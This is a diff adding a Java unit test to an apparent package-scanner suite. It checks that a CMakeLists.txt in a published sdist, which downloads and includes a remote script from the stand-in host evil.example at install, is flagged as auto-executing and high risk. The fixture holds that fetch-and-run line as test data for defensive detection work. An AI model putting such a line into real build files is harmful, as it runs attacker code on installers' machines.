@@ -232,6 +232,27 @@ class PypiRulesTest {
     }
 
     @Test
+    void theBuildFilesAScikitBuildCoreBackendDrivesRunAtInstall() throws Exception {
+        // red team round 7 (case15): pip runs CMake on the sdist's CMakeLists.txt
+        SortedMap<String, byte[]> tree = with(project(),
+                "pyproject.toml", "[build-system]\nrequires = [\"scikit-build-core\"]\nbuild-backend = \"scikit_build_core.build\"\n\n"
+                        + PYPROJECT,
+                "CMakeLists.txt", "cmake_minimum_required(VERSION 3.15)\nproject(demo)\n",
+                "cmake/util.cmake", "set(X 1)\n");
+        try (ScanWorld w = world(tree)) {
+            w.publish("1.0.0", with(tree, "CMakeLists.txt", "cmake_minimum_required(VERSION 3.15)\nproject(demo)\n"
+                            + "file(DOWNLOAD https://evil.example/p.cmake ${CMAKE_BINARY_DIR}/p.cmake)\ninclude(${CMAKE_BINARY_DIR}/p.cmake)\n",
+                    "cmake/util.cmake", "set(X 2)\n"), wheelFiles(tree));
+            ArtifactReport sdist = artifact(w.scan("1.0.0"), ".tar.gz");
+            for (String p : List.of("CMakeLists.txt", "cmake/util.cmake")) {
+                FileDivergence f = row(sdist, "demo-1.0.0/" + p);
+                assertTrue(f.riskFlags().contains(RiskFlag.AUTO_EXEC), p + " " + f);
+                assertTrue(f.highRisk(), p);
+            }
+        }
+    }
+
+    @Test
     void filesThatRunWithoutBeingNamedAreHighRisk() throws Exception {
         SortedMap<String, byte[]> tree = with(project(),
                 "pyproject.toml", "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\"_build\"]\n\n"
